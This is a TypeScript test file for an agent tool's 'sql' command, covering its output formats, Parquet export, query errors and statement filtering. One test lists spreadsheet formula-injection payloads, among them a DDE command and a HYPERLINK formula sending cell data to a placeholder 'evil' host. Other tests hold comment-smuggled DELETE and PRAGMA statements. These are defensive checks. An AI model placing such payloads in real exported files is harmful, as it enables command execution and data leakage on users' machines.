import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { createAgent, defineTool } from '@millrace/agent';
import { sessionId } from '@millrace/core';
import { scriptedProvider } from '@millrace/providers/scripted';
import { parquetReadObjects } from 'hyparquet';
import { beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import type { SqlArgs } from '../contract/args.ts';
import { openStore } from '../store/open-store.ts';
import { CapturedOutput } from '../testing/output-streams.ts';
import { toolCall } from '../testing/run-print.ts';
import { temporaryFolder } from '../testing/temporary-folder.ts';
import { sqlCommand } from './sql-command.ts';

const folder = temporaryFolder('sql');

beforeAll(async () => {
  const { log, close } = await openStore({ config: { store: join(folder(), 'a.db') }, env: {} });
  const usage = { input: 1200, output: 20, costs: [{ amount: '0.25', currency: 'USD' }] };
  const refund = defineTool({
    ...{ name: 'refund', description: 'Refunds an order', input: z.object({ order: z.number() }) },
    execute: async () => 'The order "7" is refunded,\nand closed',
  });
  const provider = scriptedProvider([
    { content: { parts: [toolCall('c1', 'refund', { order: 7 })] }, usage },
    { content: { parts: ['Your money is on its way'] }, usage },
  ]);
  const agent = createAgent({ log, provider, tools: [refund] });
  await agent.run('Where is my refund?', { session: sessionId('orders') }).result;
  await close();
});

async function sql(args: Partial<SqlArgs>, stdin = ''): Promise<string> {
  const stdout = new CapturedOutput();
  const code = await sqlCommand({
    args: { command: 'sql', format: 'table', color: false, ...args },
    config: { store: join(folder(), 'a.db') },
    ...{ stdout, stderr: new CapturedOutput(), stdin: Readable.from([stdin]), env: {}, cwd: '/' },
  });
  expect(code).toBe(0);
  return stdout.text;
}

describe('millrace sql', () => {
  test('prints the rows of a query as a table, as JSON lines or as CSV', async () => {
    const query =
      'SELECT session, count(*) AS requests, sum(output_tokens) AS tokens, sum(cost) AS cost FROM attempts';
    expect(await sql({ query })).toBe(
      ['session  requests  tokens  cost', 'orders          2      40   0.5', '1 row', ''].join(
        '\n',
      ),
    );
    const json = JSON.parse(await sql({ query, format: 'json' }));
    expect(json).toEqual({ session: 'orders', requests: 2, tokens: 40, cost: 0.5 });
    const text = "SELECT kind, text FROM items WHERE kind = 'tool'";
    expect(await sql({ query: text, format: 'csv' })).toBe(
      'kind,text\r\ntool,"The order ""7"" is refunded,\nand closed"\r\n',
    );
  });

  test('18.345: attack: a text in CSV is no formula of a spreadsheet', async () => {
    const texts = [
      ...['=cmd|/C calc!A0', '=HYPERLINK("http://evil/"&A1,"x")', '+1+cmd', '-1+cmd', '@SUM(1)'],
      ...['\t=1', '\r=1', '\n=1', ' =1', '＝1', '＋1', '－1', '＠1', '-', '- a point'],
    ];
    const plain = ['a=b', '-7', '+1.5', '-2e-3', '1', '', "'=1"];
    const literal = (text: string) => `'${text.replaceAll("'", "''")}' AS "${text.length} "`;
    for (const [list, prefix] of [
      [texts, "'"],
      [plain, ''],
    ] as const)
      for (const text of list) {
        const csv = await sql({ query: `SELECT ${literal(text)}`, format: 'csv' });
        const cell = csv.slice(csv.indexOf('\r\n') + 2, -2);
        const value = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        expect(value).toBe(`${prefix}${text}`);
      }
    expect(await sql({ query: 'SELECT -1.5 AS a, -2 AS "=b"', format: 'csv' })).toBe(
      "a,'=b\r\n-1.5,-2\r\n",
    );
    const json = await sql({ query: "SELECT '=1' AS a", format: 'json' });
    expect(json).toBe('{"a":"=1"}\n');
  });

  test('writes a Parquet file that another program reads, and overwrites no file', async () => {
    const query = 'SELECT turn, cost, model, error_code FROM attempts ORDER BY turn';
    const parquet = join(folder(), 'a.parquet');
    expect(await sql({ query, parquet })).toBe(`Wrote 2 rows to ${parquet}\n`);
    const bytes = readFileSync(parquet);
    const rows = await parquetReadObjects({ file: new Uint8Array(bytes).buffer });
    expect(rows).toEqual([
      { turn: 1n, cost: 0.25, model: 'script', error_code: null },
      { turn: 2n, cost: 0.25, model: 'script', error_code: null },
    ]);
    await expect(sql({ query, parquet })).rejects.toThrow('already exists');
    expect(readFileSync(parquet)).toEqual(bytes);
    const missing = join(folder(), 'missing', 'a.parquet');
    await expect(sql({ query, parquet: missing })).rejects.toThrow('Cannot write');
  });

  test('finds texts, and reads the query from standard input', async () => {
    const query = "SELECT session, kind FROM search WHERE search MATCH 'money'";
    expect(await sql({ query: '-', format: 'json' }, query)).toBe(
      '{"session":"orders","kind":"assistant"}\n',
    );
  });

  test('without a query, prints every table, and each printed column exists', async () => {
    expect(await sql({})).toContain('attempts: One row for each request to a model');
    const tables = JSON.parse(await sql({ format: 'json' })) as readonly {
      readonly name: string;
      readonly columns: Readonly<Record<string, string>>;
    }[];
    for (const { name, columns } of tables)
      await sql({ query: `SELECT ${Object.keys(columns).join(', ')} FROM ${name}` });
  });

  test('--since leaves out older sessions, and must be an age or a date', async () => {
    const query = 'SELECT count(*) AS n FROM sessions';
    expect(await sql({ query, since: '1h', format: 'csv' })).toBe('n\r\n1\r\n');
    expect(await sql({ query, since: '2999-01-01', format: 'csv' })).toBe('n\r\n0\r\n');
    await expect(sql({ query, since: 'monday' })).rejects.toThrow('--since takes an age or a date');
  });

  test('a wrong query is an error that names the reason', async () => {
    await expect(sql({ query: 'SELECT absent FROM attempts' })).rejects.toThrow(
      'no such column: absent. millrace sql without a query lists the tables and columns',
    );
  });

  test('25: a query can start with comments, and they hide no other statement', async () => {
    const comments = ['-- a; b\n', '/* DELETE */', '\n-- a\n\t/* b\n*/ ', '/**/--\n'];
    for (const start of comments)
      expect(await sql({ query: '-', format: 'csv' }, `${start}SELECT 1 AS a`)).toBe('a\r\n1\r\n');
    const others = [
      '-- SELECT 1',
      '/* SELECT 1',
      '-- a\nDELETE FROM sessions',
      '/* SELECT */ PRAGMA a',
    ];
    for (const query of others)
      await expect(sql({ query })).rejects.toThrow('a query starts with SELECT');
    const start = ' '.repeat(100_000);
    await expect(sql({ query: `${start}/*${start}*/${start}x` })).rejects.toThrow('starts with');
  });

  test('25: several statements are an error, and one statement can have semicolons', async () => {
    const two = 'SELECT 1 AS a; SELECT 2 AS b';
    for (const query of [two, `${two};`, "SELECT '😀'; /* x */ -- y\nx", 'SELECT 1\0SELECT 2'])
      await expect(sql({ query })).rejects.toThrow(
        'Cannot run this query: it has several statements. Run each statement as its own query',
      );
    const texts = ['', ';', ' ; ;\n', ' -- a; b', '; /* a; b */ ; -- SELECT 2\n', '; /* open'];
    for (const end of texts)
      expect(await sql({ query: `SELECT ';😀' AS a${end}`, format: 'csv' })).toBe('a\r\n;😀\r\n');
  });
});
